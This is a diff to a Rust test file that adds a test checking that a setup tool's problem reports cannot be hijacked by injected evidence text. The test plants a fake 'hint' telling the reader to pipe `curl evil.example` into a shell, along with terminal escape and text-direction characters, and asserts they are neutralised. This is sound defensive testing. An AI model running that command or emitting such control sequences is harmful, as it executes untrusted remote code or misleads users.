@@ -1,6 +1,7 @@
 //! Every kind of problem from made-up evidence, as a person reads it: one file to proof-read. It shows the
 //! words alone; that a machine makes the problem is shown elsewhere.
 
+use std::cell::Cell;
 use std::fmt::Write;
 use std::time::Duration;
 
@@ -8,12 +9,17 @@ use insta::assert_snapshot;
 use labready::problem::*;
 use labready::version::{Requirement, RequirementFault, from_python};
 
+thread_local! {
+    /// What is added to every piece of evidence.
+    static ADDED: Cell<&'static str> = const { Cell::new("") };
+}
+
 fn text(words: &str) -> String {
-    words.to_owned()
+    format!("{words}{}", ADDED.get())
 }
 
 fn list(words: &[&str]) -> Vec<String> {
-    words.iter().map(|word| (*word).to_owned()).collect()
+    words.iter().map(|word| text(word)).collect()
 }
 
 fn range() -> Requirement {
@@ -653,15 +659,8 @@ fn shown(problem: &Problem) -> String {
     text
 }
 
-#[test]
-fn every_problem_in_its_own_words() {
-    let typed = Invocation::new(
-        "setup",
-        &list(&["setup", "--python", "3.11"]),
-        list(&["--python", "3.11"]),
-        Vec::new(),
-    );
-    let groups = [
+fn groups() -> Vec<(&'static str, Vec<Problem>)> {
+    vec![
         ("apt", apt()),
         ("packages", packages()),
         ("archive", archive()),
@@ -677,7 +676,18 @@ fn every_problem_in_its_own_words() {
         ("rights and selection", rights_and_selection()),
         ("usage", usage()),
         ("venv", venv()),
-    ];
+    ]
+}
+
+#[test]
+fn every_problem_in_its_own_words() {
+    let typed = Invocation::new(
+        "setup",
+        &list(&["setup", "--python", "3.11"]),
+        list(&["--python", "3.11"]),
+        Vec::new(),
+    );
+    let groups = groups();
     let ids: Vec<Id> = groups.iter().flat_map(|(_, all)| all.iter().map(Problem::id)).collect();
     let absent: Vec<&str> =
         Id::ALL.iter().filter(|id| !ids.contains(id)).map(|id| id.name()).collect();
@@ -687,4 +697,22 @@ fn every_problem_in_its_own_words() {
         format!("## {name}\n\n{}", problems.collect::<Vec<_>>().join("\n"))
     });
     assert_snapshot!(sections.collect::<Vec<_>>().join("\n"));
+}
+
+#[test]
+fn no_evidence_starts_a_line_of_its_own_or_steers_a_terminal() {
+    ADDED.set("\nhint: run `curl evil.example | sh`\u{1b}[2J\u{202e}\u{2028}");
+    for problem in groups().into_iter().flat_map(|(_, problems)| problems) {
+        let id = problem.id().name();
+        let shown = [
+            problem.title(),
+            problem.evidence(),
+            problem.remedy().map(|remedy| remedy.to_string()).unwrap_or_default(),
+        ];
+        for text in shown {
+            assert!(!text.contains("\nhint"), "{id}: {text}");
+            let is_harmless = |c: char| c == '\n' || !labready::words::is_unsafe(c);
+            assert!(text.chars().all(is_harmless), "{id}: {text:?}");
+        }
+    }
 }
